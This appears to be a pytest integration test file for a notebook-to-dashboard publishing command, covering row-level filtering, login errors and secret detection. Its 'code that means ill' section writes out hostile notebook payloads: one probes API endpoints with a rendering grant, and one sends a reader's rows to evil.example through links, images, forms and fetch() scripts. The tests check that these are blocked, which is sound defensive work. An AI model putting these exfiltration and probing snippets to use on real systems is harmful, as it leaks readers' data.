"""A saved notebook by ``datapilot publish`` to a page that two readers open, with its text, its code and its tiles; and
notebooks whose code tries to keep or to send what a reader's rights show.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import nbformat
import pytest
from sqlalchemy import select

from datapilot_kernel.cli import main
from datapilot_kernel.errors import BadInput
from datapilot_kernel.notebook.hub_token import HubToken
from datapilot_kernel.notebook.publishing import read_notebook, run_through
from hub_config.database import RefreshToken
from tests.platform_support import PASSWORD, World, make_world
from tests.rendering_hub import TOKEN, RenderingHub, rendering_hub
from tests.served import Service, finished
from tests.unit.platform.test_content import CSV, PLAN
from tests.unit.platform.test_semantic_layers_api import _with

pytestmark = pytest.mark.timeout(300)


class Place:
    """The API served, a hub that starts renderings, a source with a row filter, two readers."""

    def __init__(self, world: World, service: Service, hub: RenderingHub, source: str, readers: dict[str, str]) -> None:
        self.world, self.service, self.hub, self.source, self.readers = world, service, hub, source, readers
        self.admin = service.client(world.headers("administrator"))
        self.author = service.client(world.headers("analyst"))

    def reader(self, region: str) -> httpx.Client:
        token = self.world.token_of(self.world.tenant_id(), self.readers[region])
        return self.service.client({"Authorization": f"Bearer {token}"})

    def accept(self, request_id: str) -> str:
        path = f"/dashboards/publication-requests/{request_id}/decision"
        decided = self.admin.post(path, json={"accept": True, "exploratory": True})
        assert decided.status_code == 200, decided.text
        dashboard: str = decided.json()["dashboard_id"]
        assert self.admin.put(f"/dashboards/{dashboard}/rights", json={"items": [{"role": "viewer"}]}).status_code == 200
        return dashboard

    def page(self, dashboard: str, region: str) -> dict[str, Any]:
        with self.reader(region) as reader:
            rendering = reader.post(f"/dashboards/{dashboard}/renderings")
            assert rendering.status_code == 202, rendering.text
            end = time.monotonic() + 120
            while True:
                shown: dict[str, Any] = reader.get(f"/renderings/{rendering.json()['id']}").json()
                if shown["state"] in ("ready", "failed"):
                    return shown
                assert time.monotonic() < end, shown
                time.sleep(0.2)

    def published(self, *cells: tuple[str, str]) -> str:
        """A dashboard of a notebook of these cells; the question's tile stands in its place."""
        asked = [number for number, (_, source) in enumerate(cells) if source.startswith("%ask")]
        tile = {"title": "CA", "source_id": self.source, "question": "CA par région", "plan": PLAN, "cell": asked[0]}
        made = [{"cell_type": kind, "source": source, "metadata": {}} for kind, source in cells]
        book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}
        sent = {"name": "Ventes", "tiles": [tile], "notebook": book}
        asking = self.author.post("/dashboards/publication-requests", json=sent)
        assert asking.status_code == 201, asking.text
        return self.accept(asking.json()["id"])


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with rendering_hub() as hub:
        world = make_world(
            tmp_path_factory.mktemp("publish"), hub_api_url=hub.url, hub_api_token=TOKEN, parallel_refreshes=0
        )
        readers = {
            region: world.add_user("t1", f"{region.lower()}@t1.example", "viewer", attributes={"region": region})
            for region in ("Nord", "Sud")
        }
        # Signing out ends a person's tokens everywhere: the command has a person of its own.
        world.add_user("t1", "auteur@t1.example", "analyst", attributes={"region": "Nord"})
        with Service(world.settings) as service:
            hub.api_url = service.address
            admin = service.client(world.headers("administrator"))
            upload = admin.post("/data-sources/upload", files={"file": ("ventes.csv", CSV)}).json()["id"]
            made = admin.post("/data-sources/from-files", json={"name": "Ventes", "uploads": [upload]}).json()
            source = made["source"]["id"]
            assert finished(admin, source, made["job_id"])["status"] == "done"
            layer = admin.get("/semantic-layers/draft", params={"source_id": source})
            assert layer.status_code == 200, layer.text
            text = _with(layer.json()["text"], row_filter='"region = {region}"')
            saved = admin.post("/semantic-layers", json={"source_id": source, "text": text})
            accepted = admin.post(f"/semantic-layers/{saved.json()['layer']['id']}/accept")
            assert accepted.status_code == 200, (saved.text, accepted.text)
            yield Place(world, service, hub, source, readers)
        world.platform.stop()


def publish(place: Place, *arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    kept = {k: v for k, v in os.environ.items() if not k.startswith(("DATAPILOT_", "JUPYTERHUB_"))}
    return subprocess.run(
        [sys.executable, "-m", "datapilot_kernel.cli", "publish", *arguments],
        env=kept | environment, capture_output=True, text=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip


NOTEBOOK = [
    nbformat.v4.new_markdown_cell("# Les ventes par région\n\nVoir [la méthode](https://intranet.example/methode)."),
    nbformat.v4.new_code_cell("%datapilot source Ventes"),
    nbformat.v4.new_code_cell(
        "%ask -o ca chiffre d'affaires par région",
        outputs=[nbformat.v4.new_output("stream", text="Ancienne valeur 987654")],
    ),
    nbformat.v4.new_code_cell(
        "from IPython.display import Markdown, display\n"
        "regions = sorted(str(v) for v in ca.df.iloc[:, 0])\n"
        "display(Markdown('En tête : **' + ', '.join(regions) + '**'))"
    ),
    nbformat.v4.new_code_cell("%%sql\nSELECT count(*) FROM ventes"),
    nbformat.v4.new_code_cell("%ask quel temps fera-t-il demain à Brest ?"),
]


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    path = tmp_path / "ventes.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=NOTEBOOK), path)
    return path


def test_from_the_command_to_two_readers(place: Place, saved: Path) -> None:
    before = saved.read_bytes()
    signed = {"DATAPILOT_EMAIL": "auteur@t1.example", "DATAPILOT_PASSWORD": PASSWORD}
    done = publish(place, str(saved), "--server", place.service.address, "--json", **signed)
    assert done.returncode == 0, (done.stdout, done.stderr)
    said = json.loads(done.stdout)
    assert (said["sent"], said["name"], said["ran"]) == (True, "Les ventes par région", None)
    assert [(t["cell"], t["trust"]) for t in said["tiles"]] == [(3, "governed")]
    assert [one["cell"] for one in said["left"]] == [5, 6]
    assert "publications/" in said["url"]
    assert PASSWORD not in done.stdout + done.stderr
    assert saved.read_bytes() == before, "the notebook is read, not written"
    with place.world.database.tenant(place.world.tenant_id(), read_only=True) as session:
        tokens = session.scalars(select(RefreshToken)).all()
    assert [token.revoked_at is None for token in tokens] == [False], "the command's session is over"

    dashboard = place.accept(said["id"])
    for region, figure in (("Nord", "25.00"), ("Sud", "10.00")):
        shown = place.page(dashboard, region)
        assert shown["state"] == "ready", shown
        (tile,) = shown["tiles"]
        assert shown["tiles"][tile]["rows"] == [[region, figure]]
        markup = shown["markup"]
        assert f"<strong>{region}</strong>" in markup, "the author's code, over this reader's rows alone"
        assert markup.index("Les ventes par région") < markup.index(f'data-tile="{tile}"') < markup.index("En tête")
        assert 'href="https://intranet.example/methode"' in markup
        assert "987654" not in json.dumps(shown)
        assert {"Nord": "Sud", "Sud": "Nord"}[region] not in json.dumps(shown, ensure_ascii=False)


def test_a_new_version_and_a_check_that_sends_nothing(place: Place, saved: Path) -> None:
    signed = {"DATAPILOT_EMAIL": "auteur@t1.example", "DATAPILOT_PASSWORD": PASSWORD}
    server = ("--server", place.service.address)
    count = len(place.admin.get("/dashboards/publication-requests", params={"limit": 200}).json()["items"])
    checked = publish(place, str(saved), *server, "--check", **signed)
    assert checked.returncode == 0, checked.stderr
    assert "Cellule 3" in checked.stderr
    assert "n’a pas été exécuté ici" in checked.stderr
    assert checked.stdout == ""
    unknown = publish(place, str(saved), *server, "--dashboard", "Rien", **signed)
    assert (unknown.returncode, "Rien" in unknown.stderr) == (2, True)
    assert len(place.admin.get("/dashboards/publication-requests", params={"limit": 200}).json()["items"]) == count
    dashboard = place.admin.post("/dashboards", json={"name": "Comité"}).json()["id"]
    asked = publish(place, str(saved), *server, "--dashboard", "Comité", **signed)
    assert asked.returncode == 0, asked.stderr
    assert asked.stdout.strip().startswith(place.world.settings.public_url)
    newest = place.admin.get("/dashboards/publication-requests").json()["items"][0]
    assert (newest["dashboard_id"], newest["name"]) == (dashboard, "Comité")


@pytest.mark.parametrize(
    ("arguments", "environment", "code", "said"),
    [
        ((), {}, 2, "--server"),
        (("--server", "http://datapilot.example"), {"DATAPILOT_EMAIL": "x"}, 2, "chiffrement"),
        (("--server", "https://lea:pw@datapilot.example"), {}, 2, "mot de passe"),
        (("--server", "SERVED"), {}, 2, "DATAPILOT_PASSWORD"),
        (("--server", "SERVED"), {"DATAPILOT_EMAIL": "auteur@t1.example", "DATAPILOT_PASSWORD": "faux"}, 2, "mot de passe"),
        (("--server", "http://127.0.0.1:9"), {"DATAPILOT_EMAIL": "x", "DATAPILOT_PASSWORD": "y"}, 3, "ne répond pas"),
    ],
)
def test_what_cannot_be_asked(
    place: Place, saved: Path, arguments: tuple[str, ...], environment: dict[str, str], code: int, said: str
) -> None:
    given = [place.service.address if one == "SERVED" else one for one in arguments]
    done = publish(place, str(saved), *given, **environment)
    assert (done.returncode, said in done.stderr) == (code, True), done.stderr
    assert "Traceback" not in done.stderr


def test_a_secret_ends_it_before_anything_is_asked(place: Place, tmp_path: Path) -> None:
    path = tmp_path / "secret.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1\npassword = 'hunter22'")]), path)
    done = publish(place, str(path), "--server", "https://nowhere.example", "--json")
    assert done.returncode == 1
    assert json.loads(done.stdout)["secrets"] == [{"cell": 1, "line": 2, "kind": "password"}]
    assert "hunter22" not in done.stdout + done.stderr
    (tmp_path / "texte.ipynb").write_text("bonjour", encoding="utf-8")
    assert publish(place, str(tmp_path / "texte.ipynb"), "--server", "https://nowhere.example").returncode == 2


# ── code that means ill ───────────────────────────────────────────────────────────────────────────────────────────────


REACHES = """
import json, os, urllib.error, urllib.request
base, grant = os.environ["DATAPILOT_API_URL"].rstrip("/") + "/api/v1", os.environ["DATAPILOT_GRANT"]
tried = {}
for method, path, body in [
    ("POST", "/ai/query", {"source_id": "%(source)s", "question": "CA"}), ("GET", "/data-sources", None),
    ("GET", "/queries", None), ("GET", "/users", None), ("GET", "/auth/me", None), ("POST", "/data-sources/upload", {}),
    ("POST", "/dashboards/publication-requests", {"name": "x", "tiles": []}), ("GET", "/dashboards", None),
    ("POST", "/rendering/tiles/%(other)s", None), ("POST", "/dashboards/%(other)s/publish", {}),
]:
    sent = urllib.request.Request(base + path, json.dumps(body).encode() if body is not None else None, method=method)
    sent.add_header("Authorization", "Bearer " + grant)
    sent.add_header("Content-Type", "application/json")
    try:
        tried[path] = urllib.request.urlopen(sent, timeout=20).status
    except urllib.error.HTTPError as error:
        tried[path] = error.code
from IPython.display import Markdown, display
display(Markdown("REACHED " + " ".join(sorted(str(v) for v in tried.values()))))
"""


SENDS = """
from IPython.display import HTML, Javascript, Markdown, display
rows = ca.df.to_csv(index=False)
from urllib.parse import quote
away = "https://evil.example/?" + quote(rows)
display(Markdown(f"[cliquez]({away}) ![x]({away}) [b](https://intranet.example/methode/{quote(rows)})"))
display(Markdown(f"<img src='{away}'><form action='{away}'><input></form><script>fetch('{away}')</script>"))
display(HTML(f"<script>fetch('{away}')</script>"), Javascript(f"fetch('{away}')"))
display({"application/vnd.datapilot.tile+json": {"id": "f" * 32, "outcome": "answer", "rows": rows}}, raw=True)
"""


def test_code_that_means_ill_reaches_nothing_and_sends_nothing(place: Place) -> None:
    """The grant opens the version's tiles and nothing else; nothing of a page carries rows away."""
    text = "Voir [la méthode](https://intranet.example/methode)."
    reaches = REACHES % {"source": place.source, "other": "f" * 32}
    cells = [("markdown", text), ("code", "%ask -o ca CA par région"), ("code", reaches), ("code", SENDS)]
    shown = place.page(place.published(*cells), "Nord")
    assert shown["state"] == "ready", shown
    markup = shown["markup"]
    reached = markup.split("REACHED ")[1].split("</p>")[0].split()
    assert len(reached) == 10
    assert set(reached) <= {"401", "403", "404"}, reached
    assert 'href="https://intranet.example/methode"' in markup, "what the author wrote for all to read stays"
    for lost in ("evil.example", "<img", "<script", "<form", "methode/", "fetch("):
        assert lost not in markup, (lost, markup)
    assert "f" * 32 not in shown["tiles"]


def test_an_authors_error_is_the_authors_and_no_reader_reads_it(place: Place) -> None:
    dashboard = place.published(("code", "%ask -o ca CA par région"), ("code", "raise ValueError(ca.df.to_csv())"))
    shown = place.page(dashboard, "Nord")
    assert (shown["state"], shown["failure"], shown["trace"]) == ("failed", "author", None)
    assert "25" not in json.dumps(shown["tiles"])


def test_more_rows_than_a_page_gives_its_code_are_not_summed_in_part(place: Place, tmp_path: Path) -> None:
    from dashboards.rendering.tiles import TilePlace, _result

    with pytest.raises(BadInput):
        _result({"outcome": "answer", "row_count": 900, "rows": [[1]] * 500}, TilePlace("a", "answer"))


def test_in_the_hub_the_notebooks_token_is_enough(
    place: Place, saved: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """It asks, by the exchange of the hub's token; and opens nothing that decides."""
    user = place.world.add_user("t1", "notebook@t1.example", "analyst", attributes={"region": "Sud"})

    def exchanged(token: HubToken, client: httpx.Client) -> None:
        token._token = place.world.token_of(place.world.tenant_id(), user, "notebook")
        token._until = token._clock() + 60

    monkeypatch.setattr(HubToken, "_exchange", exchanged)
    monkeypatch.setenv("DATAPILOT_API_URL", place.service.address)
    assert main(["publish", str(saved), "--no-run", "--title", "Du notebook"]) == 0
    printed = capsys.readouterr()
    request_id = printed.out.strip().rpartition("/")[2]
    asked = next(r for r in place.admin.get("/dashboards/publication-requests").json()["items"] if r["id"] == request_id)
    assert (asked["name"], asked["requested_by"], asked["status"]) == ("Du notebook", user, "requested")
    assert "987654" not in json.dumps(asked)
    headers = {"Authorization": f"Bearer {place.world.token_of(place.world.tenant_id(), user, 'notebook')}"}
    with place.service.client(headers) as notebook:
        decision = notebook.post(f"/dashboards/publication-requests/{request_id}/decision", json={"accept": True})
    assert decision.status_code == 403


def test_a_notebook_is_run_from_top_to_bottom_and_says_where_it_fails(tmp_path: Path) -> None:
    path = tmp_path / "essai.ipynb"
    cells = [nbformat.v4.new_code_cell("x = 1"), nbformat.v4.new_markdown_cell("texte"), nbformat.v4.new_code_cell("x / 0")]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    checked = read_notebook(path)
    run_through(checked, kernel="python3", folder=tmp_path)
    assert (checked.ran, checked.failed, checked.passed) == (True, (3, "division by zero"), False)
    with pytest.raises(BadInput):
        run_through(checked, kernel="no-such-kernel", folder=tmp_path)
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler, "Ctrl-C still stops the command"
